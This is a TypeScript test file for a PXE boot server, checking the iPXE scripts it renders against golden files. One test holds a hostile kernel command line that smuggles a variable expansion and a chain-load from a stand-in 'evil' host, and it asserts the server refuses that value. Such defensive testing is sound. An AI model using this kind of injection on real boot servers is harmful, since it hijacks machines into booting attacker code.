// Whole-script golden tests: every iPXE variant the policy serves, rendered through the policy (so the golden files
// pin the wiring as well as the text). Per-boot tokens and boot ids are replaced by <TOKEN> / <BOOT-ID>.
// Regenerate after an intended change: UPDATE_GOLDEN=1 node --test <dist>/test/boot/scripts.test.js

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fixtures } from '../helpers/paths.js';
import { MAC, hostSpec, normaliseScript, rig } from './fixtures.js';
import { renderInstall } from '../../src/boot/scripts.js';
import { isPxedError } from '../../src/errors.js';

function golden(name: string, actual: string): void {
  const file = fixtures('boot', `${name}.ipxe`);
  if (process.env.UPDATE_GOLDEN === '1' || !existsSync(file)) {
    if (process.env.UPDATE_GOLDEN !== '1') assert.fail(`golden file ${file} is missing (run with UPDATE_GOLDEN=1)`);
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, actual);
  }
  assert.equal(actual, readFileSync(file, 'utf8'), `${name} differs from ${file}`);
}

const req = (mac: string, query: Record<string, string> = {}) => ({ mac, query, clientAddress: '10.77.0.50' });

void test('golden: bootstrap', () => {
  const r = rig();
  try {
    golden('bootstrap', String(r.policy.bootstrapScript('10.77.0.50').body));
  } finally {
    r.close();
  }
});

void test('golden: install scripts (custom, ubuntu, nixos)', async () => {
  for (const host of ['lab1', 'ubu1', 'nix1']) {
    const r = rig();
    try {
      r.admin.create({ mac: MAC, host });
      const doc = await r.policy.machineScript(req(MAC, { arch: 'x86_64', platform: 'efi' }));
      golden(`install-${host === 'lab1' ? 'custom' : host === 'ubu1' ? 'ubuntu' : 'nixos'}`, normaliseScript(String(doc.body)));
    } finally {
      r.close();
    }
  }
});

void test('golden: local boot (BIOS sanboot, EFI exit)', async () => {
  for (const platform of ['pcbios', 'efi']) {
    const r = rig();
    try {
      r.registry.machineCreate({ mac: MAC, host: 'lab1', state: 'registered' });
      r.registry.machineTransition(MAC, 'booting', 't');
      r.registry.machineTransition(MAC, 'installed', 't');
      const doc = await r.policy.machineScript(req(MAC, { platform }));
      golden(`local-boot-${platform === 'efi' ? 'efi' : 'bios'}`, String(doc.body));
    } finally {
      r.close();
    }
  }
});

void test('golden: discovered, unknown, failed', async () => {
  const r = rig();
  try {
    r.registry.machineCreate({ mac: MAC, host: null, state: 'discovered' });
    golden('discovered', String((await r.policy.machineScript(req(MAC))).body));
    golden('unknown', String((await r.policy.machineScript(req('52:54:00:00:00:99'))).body));
    r.registry.machineCreate({ mac: '52:54:00:00:00:01', host: 'lab1', state: 'registered' });
    r.registry.machineTransition('52:54:00:00:00:01', 'booting', 't');
    r.registry.machineTransition('52:54:00:00:00:01', 'failed', 't');
    golden('failed', String((await r.policy.machineScript(req('52:54:00:00:00:01'))).body));
  } finally {
    r.close();
  }
});

void test('a hostile custom command line never reaches a script: the machine gets a refusal naming the argument', async () => {
  const bad = hostSpec('evil', 'custom');
  bad.install.custom = { kernel: 'lab/vmlinuz', initrds: ['lab/initrd.gz'], cmdline: 'console=ttyS0 x=${net0/ip} || chain http://evil/' };
  const r = rig({}, [bad]);
  try {
    r.admin.create({ mac: MAC, host: 'evil' });
    const body = String((await r.policy.machineScript(req(MAC))).body);
    assert.doesNotMatch(body, /^kernel/m);
    assert.doesNotMatch(body, /\$\{net0/);
    assert.doesNotMatch(body, /chain http:\/\/evil/);
    assert.match(body, /cannot render the install script: kernel argument 2/);
    assert.equal(r.registry.machineGet(MAC)?.state, 'registered', 'no boot was armed');
    const ev = r.registry.eventList(MAC).filter((e) => e.kind === 'ipxe-script');
    assert.equal(ev.at(-1)?.detail.variant, 'error');
    assert.equal(ev.at(-1)?.detail.field, 'kernel argument 2');
    // The preview shows the coded error instead.
    assert.throws(() => r.admin.preview(MAC, 'ipxe'), (e: unknown) => isPxedError(e, 'BOOT_SCRIPT_INVALID'));
  } finally {
    r.close();
  }
});

void test('renderInstall adds initrd=<name> per initrd, keeps an explicit one, refuses colliding names', () => {
  const base = { mac: MAC, hostname: 'h', os: 'custom', bootId: 'b', kernelUrl: 'http://10.0.0.1/k' };
  const one = renderInstall({ ...base, initrdUrls: ['http://10.0.0.1/a/initrd.gz', 'http://10.0.0.1/b/extra.cpio'], args: ['quiet'] });
  assert.match(one, /^kernel http:\/\/10\.0\.0\.1\/k initrd=initrd\.gz initrd=extra\.cpio quiet \|\| goto pxed-fail$/m);
  const explicit = renderInstall({ ...base, initrdUrls: ['http://10.0.0.1/a/initrd'], args: ['initrd=initrd', 'quiet'] });
  assert.match(explicit, /^kernel http:\/\/10\.0\.0\.1\/k initrd=initrd quiet \|\|/m);
  assert.throws(
    () => renderInstall({ ...base, initrdUrls: ['http://10.0.0.1/a/initrd', 'http://10.0.0.1/b/initrd'], args: [] }),
    (e: unknown) => isPxedError(e, 'BOOT_SCRIPT_INVALID'),
  );
});
